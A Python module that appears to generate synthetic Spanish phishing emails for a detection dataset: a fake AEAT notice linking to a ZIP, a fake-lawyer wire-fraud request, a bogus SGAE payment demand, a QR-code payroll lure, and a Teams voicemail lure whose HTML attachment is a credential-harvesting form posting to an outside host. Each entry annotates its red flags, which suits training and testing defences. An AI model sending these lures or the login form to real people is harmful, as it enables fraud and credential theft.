"""Attack messages, Spanish (27-31)."""
import mime
import htm
import infra as I
from company import S, ABOGADO_IBAN, SGAE_FAKE_IBAN, EG_ES_CIF
from ids import fmt_iban
from kit import plain, html, alt, mixed, related, att, qr, dedent
from msg import M

F = "attack"


def a27():
    url = "https://www.clinicadental-sonrisa-murcia.es/wp-content/uploads/2026/11/AEAT/Notificacion_AEAT_%s_R2026GRC48812.zip" % EG_ES_CIF
    txt = dedent("""
    Agencia Tributaria
    Sede electrónica - Notificaciones

    Estimado contribuyente:

    Le informamos de que tiene a su disposición una notificación de la Agencia Estatal de Administración Tributaria relativa a EXAMPLE GROUP ESPAÑA S.L. (NIF %s).

    Procedimiento: Requerimiento de información - Modelo 303, 3T 2026
    Referencia: R2026GRC48812
    Plazo para atender el requerimiento: 10 días hábiles

    Puede descargar el documento completo en formato comprimido en el siguiente enlace:
    %s

    La falta de atención al requerimiento podrá constituir infracción tributaria conforme al artículo 203 de la Ley 58/2003, General Tributaria.

    Atentamente,
    Agencia Estatal de Administración Tributaria
    """) % (EG_ES_CIF, url)
    h = ('<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">\n'
         '<div style="border-bottom:3px solid #b8232f;padding:10px 0"><b style="font-size:18px;color:#b8232f">Agencia Tributaria</b>'
         '<br><span style="font-size:12px">Sede electrónica - Notificaciones</span></div>\n'
         '<p>Estimado contribuyente:</p>\n'
         '<p>Le informamos de que tiene a su disposición una notificación de la Agencia Estatal de Administración Tributaria relativa '
         'a EXAMPLE GROUP ESPAÑA S.L. (NIF %s).</p>\n'
         '<p>Procedimiento: <b>Requerimiento de información - Modelo 303, 3T 2026</b><br>Referencia: R2026GRC48812<br>'
         'Plazo para atender el requerimiento: 10 días hábiles</p>\n'
         '<p><a href="%s">Descargar notificación (ZIP)</a></p>\n'
         '<p style="font-size:12px">La falta de atención al requerimiento podrá constituir infracción tributaria conforme al artículo '
         '203 de la Ley 58/2003, General Tributaria.</p>\n'
         '<p>Atentamente,<br>Agencia Estatal de Administración Tributaria</p></body></html>\n') % (EG_ES_CIF, url)
    return M(folder=F, num=27, lang="es", slug="agencia-tributaria-enlace-zip",
             profile=I.Exim(server="srv1127.hostinglowcost-es.com", server_ip="217.160.72.118", zone="es",
                            client_ip="196.196.53.88", host="clinicadental-sonrisa-murcia.es", version="6.9.3"),
             when=("es", 2026, 11, 3, 9, 27, 14),
             frm=("Agencia Tributaria", "citaprevia@clinicadental-sonrisa-murcia.es"), to=[S("es_acc")],
             subject="Notificación AEAT: requerimiento de información ref. R2026GRC48812",
             body=alt(txt, h, "utf-8", "base64"),
             desc="Malware-delivery phishing impersonating the Spanish Tax Agency: 'information request for VAT return', link "
                  "to download the 'notification' as a ZIP from a compromised dental clinic's website",
             why="AEAT notifications are only made available in the Sede/DEHú (see genuine DEHú notice business/31), never as "
                 "ZIP downloads; sender is a compromised clinic mailbox; ZIP hosted in a WordPress uploads folder; sanction "
                 "threat. Typical Spanish tax-themed malware campaign.")


def a28():
    body = dedent("""
    Estimada Sra. Núñez:

    Me pongo en contacto con usted por indicación del Sr. Jürgen Köhler, consejero delegado del Grupo, y con conocimiento de D. José Ramón Ibáñez, en relación con la operación que nuestro despacho asesora para Example Group en España (adquisición de dos complejos de salas en la Comunidad de Madrid).

    La operación se encuentra en fase de due diligence y está sujeta a un acuerdo de confidencialidad estricto hasta su comunicación oficial. Por este motivo le ruego que no la comente con otros miembros de la organización ni por teléfono; el Sr. Köhler le confirmará por escrito su autorización.

    Para formalizar la reserva ante notario el próximo jueves es necesario realizar hoy una provisión de fondos de 86.400,00 € a la cuenta cliente del despacho:

    Titular: Llorente & Asociados Abogados S.L.P.
    IBAN: %s
    Concepto: Provisión fondos LLA/2026/1187

    Le agradecería que me confirme la orden de transferencia respondiendo a este correo. Quedo a su disposición.

    Atentamente,

    Ignacio Llorente Sanz
    Socio director
    Llorente & Asociados Abogados
    Paseo de la Castellana 95, planta 12 - 28046 Madrid
    """) % fmt_iban(ABOGADO_IBAN)
    t = plain(body, "windows-1252", "quoted-printable")
    h = html(htm.outlook(body, "ES"), "windows-1252", "quoted-printable")
    return M(folder=F, num=28, lang="es", slug="abogado-falso-provision-fondos",
             profile=I.Combo(I.OutlookDesktop(lang="es", zone="es"),
                             I.VPS(helo="mail.llorenteabogados-madrid.com", rdns="s19284712.onlinehome-server.info",
                                   ip="82.165.97.143", submit_ip="102.165.48.21")),
             when=("es", 2026, 11, 12, 11, 34, 9),
             frm=("Ignacio Llorente Sanz", "i.llorente@llorenteabogados-madrid.com"), to=[S("es_acc")],
             subject="Operación confidencial - provisión de fondos ref. LLA/2026/1187",
             hcs="windows-1252",
             body=mime.multi("alternative", [t, h]),
             desc="Fake-lawyer BEC: 'partner of a Madrid law firm' acting on the CEO's instructions asks the Spanish "
                  "accountant for a same-day EUR 86,400 'escrow deposit' for a confidential acquisition",
             why="Unknown law firm on a freshly registered domain (IONOS server); invokes CEO and country manager without "
                 "them in copy; secrecy, 'don't discuss by phone', same-day payment to a firm's 'client account'. The "
                 "subsidiary's real lawyers are Ruiz & Aranda (business/30).")


def a29():
    url = "https://portal.sgae-liquidaciones.es/usuarios/acceso?cif=%s&liq=EXH-3T26-00912" % EG_ES_CIF
    txt = dedent("""
    SGAE - Sociedad General de Autores y Editores
    Departamento de Exhibición Cinematográfica

    Estimados señores:

    Tras la revisión de las declaraciones de taquilla correspondientes al tercer trimestre de 2026 de sus salas de Madrid (Alcalá 318), la liquidación de derechos de comunicación pública presenta una diferencia a favor de SGAE de 4.212,75 € (IVA incluido).

    Liquidación: EXH-3T26-00912
    Vencimiento: 30/11/2026

    Puede consultar el detalle y abonar la diferencia en el Portal de Usuarios:
    %s

    o mediante transferencia a la cuenta %s indicando la referencia de la liquidación.

    Si el importe no se regulariza antes del vencimiento, se aplicarán los recargos previstos en las tarifas generales y se iniciará la reclamación por vía judicial.

    Atentamente,
    Departamento de Exhibición Cinematográfica
    SGAE
    """) % (url, fmt_iban(SGAE_FAKE_IBAN))
    h = htm.simple(txt).replace(url, '<a href="%s">Acceder al Portal de Usuarios</a>' % url)
    return M(folder=F, num=29, lang="es", slug="sgae-liquidacion-exhibicion-falsa",
             profile=I.Mailgun(mgdomain="mg.sgae-liquidaciones.es"), when=("es", 2026, 11, 18, 10, 12, 30),
             frm=("SGAE Exhibición", "liquidaciones@sgae-liquidaciones.es"), to=[S("es_mgr")],
             env_from="bounce+c81f02.77b1a0-jose.ibanez=example.com@mg.sgae-liquidaciones.es",
             subject="Liquidación EXH-3T26-00912 - derechos de comunicación pública 3T 2026",
             body=alt(txt, h, "utf-8", "quoted-printable"),
             desc="Trade-specific fraud: fake SGAE (music-rights society) settlement for cinema box office, 'pay EUR 4,212.75 "
                  "via portal login or transfer'",
             why="Look-alike domain sgae-liquidaciones.es via Mailgun (real SGAE is sgae.es); credential portal plus a "
                 "private IBAN; legal threat; invoices from collecting societies arrive through the established contract "
                 "channel, not as surprise 'differences'.")


def a30():
    url = "https://portal-empleado.examplegroup-es.com/activar?id=ZXMtMDQ3MQ&org=EGES"
    png = qr(url, scale=6)
    txt = dedent("""
    Estimado/a compañero/a:

    A partir de la nómina de noviembre, Example Group España pasa a un nuevo Portal del Empleado, en el que podrás consultar tus nóminas, el certificado de retenciones (modelo 190) y actualizar tus datos bancarios.

    Para activar tu acceso es necesario escanear con el móvil el código QR adjunto e iniciar sesión con tu usuario corporativo antes del viernes 20/11. Las cuentas que no se activen no recibirán la nómina de noviembre hasta su validación manual.

    Gracias por tu colaboración.

    Recursos Humanos
    Example Group España S.L.
    """)
    h = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15"></head>\n'
         '<body style="font-family:Calibri,Arial,sans-serif;font-size:15px">\n'
         + "".join("<p>%s</p>\n" % p.replace("\n", "<br>") for p in txt.strip().split("\n\n")) +
         '<p><img src="cid:portal-qr@examplegroup-es" width="220" height="220" alt="QR"></p>\n</body></html>\n')
    img = att(png, "image/png", "Acceso_Portal_Empleado.png", inline=True, cid="portal-qr@examplegroup-es")
    body = related(mime.multi("alternative", [plain(txt, "iso-8859-15", "quoted-printable"),
                                              html(h, "iso-8859-15", "quoted-printable")]), img)
    return M(folder=F, num=30, lang="es", slug="quishing-portal-empleado-nomina", qr_payload=url,
             profile=I.Combo(I.PHPMailer(host="examplegroup-es.com", zone="es"),
                             I.VPS(helo="mail.examplegroup-es.com", rdns="vps-9f21c7a3.vps.ovh.net", ip="57.128.177.30",
                                   local_user=1001)),
             when=("es", 2026, 11, 16, 8, 5, 22),
             frm=("Recursos Humanos - Example Group España", "rrhh@examplegroup-es.com"), to=[S("es_mgr")],
             subject="Nuevo Portal del Empleado - activa tu acceso antes del 20/11",
             hcs="iso-8859-15",
             body=body,
             desc="Quishing/payroll: fake HR notice about a 'new employee portal'; activation only via an inline QR code "
                  "(real, decodable) pointing to a look-alike domain; threat that salary will be withheld",
             why="Domain examplegroup-es.com is not ours (OVH VPS, PHPMailer); QR code hides the phishing URL; asks for "
                 "corporate login and offers 'update bank details' (payroll diversion); payslip threat. Genuine payslip "
                 "notice uses the intranet link via the internal relay (business/29).")


def a31():
    fake = ('<!DOCTYPE html>\n<html lang="es"><head><meta charset="utf-8"><title>Mensaje de voz - Microsoft Teams</title>\n'
            '<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f5f5f5;margin:0}.w{width:420px;margin:60px auto;'
            'background:#fff;padding:32px;border-radius:4px;box-shadow:0 1px 4px rgba(0,0,0,.15)}.p{background:#464775;'
            'color:#fff;padding:14px;border-radius:4px;margin-bottom:18px}input{width:96%;padding:8px;margin:6px 0 14px;'
            'border:1px solid #999}button{background:#5b5fc7;color:#fff;border:0;padding:9px 30px}</style></head>\n'
            '<body><div class="w"><div class="p">&#9654;&nbsp; Mensaje de voz - 00:47<br><small>De: +34 915 550 183</small></div>\n'
            '<p>Para reproducir el mensaje inicie sesión con su cuenta de Microsoft 365.</p>\n'
            '<form method="post" action="https://vm-teams-es.r2-player.workers.dev/api/play">\n'
            '<input name="u" value="maria.nunez@example.com"><input name="p" type="password" placeholder="Contraseña">\n'
            '<button>Reproducir</button></form></div></body></html>\n')
    txt = dedent("""
    Microsoft Teams

    Tiene un nuevo mensaje de voz

    De: +34 915 550 183
    Duración: 00:47
    Recibido: 24/11/2026 12:06

    El mensaje de voz está adjunto a este correo. Abra el archivo adjunto para escucharlo.

    Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
    """)
    h = ('<html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px">\n'
         '<p style="font-size:20px;color:#464775"><b>Microsoft Teams</b></p>\n<p style="font-size:18px">Tiene un nuevo mensaje de voz</p>\n'
         '<p>De: +34 915 550 183<br>Duración: 00:47<br>Recibido: 24/11/2026 12:06</p>\n'
         '<p>El mensaje de voz está adjunto a este correo. Abra el archivo adjunto para escucharlo.</p>\n'
         '<p style="font-size:11px;color:#777">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p></body></html>\n')
    return M(folder=F, num=31, lang="es", slug="buzon-voz-teams-html-adjunto",
             profile=I.Outlook365(srv="PAXP193MB2217", srv2="DU0P193MB1760", pod="EURP193", lang="es-ES",
                                  eop="mail-db3eur04on2119.outbound.protection.outlook.com", eop_ip="40.107.6.119",
                                  org="gestoria-alameda.es"),
             when=("es", 2026, 11, 24, 12, 7, 49),
             frm=("Microsoft Teams (buzón de voz)", "administracion@gestoria-alameda.es"), to=[S("es_acc")],
             subject="Mensaje de voz de +34 915 550 183 (00:47)",
             body=mixed(alt(txt, h, "utf-8", "base64"),
                        att(fake.encode("utf-8"), "text/html", "Mensaje_voz_+34915550183_00m47s.html")),
             desc="Voicemail lure with HTML attachment: 'new Teams voicemail' whose attachment is a fake Microsoft 365 sign-in "
                  "pre-filled with the victim's address, posting to a workers.dev endpoint",
             why="Sent from a compromised gestoría's Exchange Online mailbox (genuine Microsoft infrastructure abused) with a "
                 "'Microsoft Teams' display name; voicemail delivered as HTML login form; form posts to a Cloudflare "
                 "workers.dev host. No script in the attachment.")


MESSAGES = [a27, a28, a29, a30, a31]
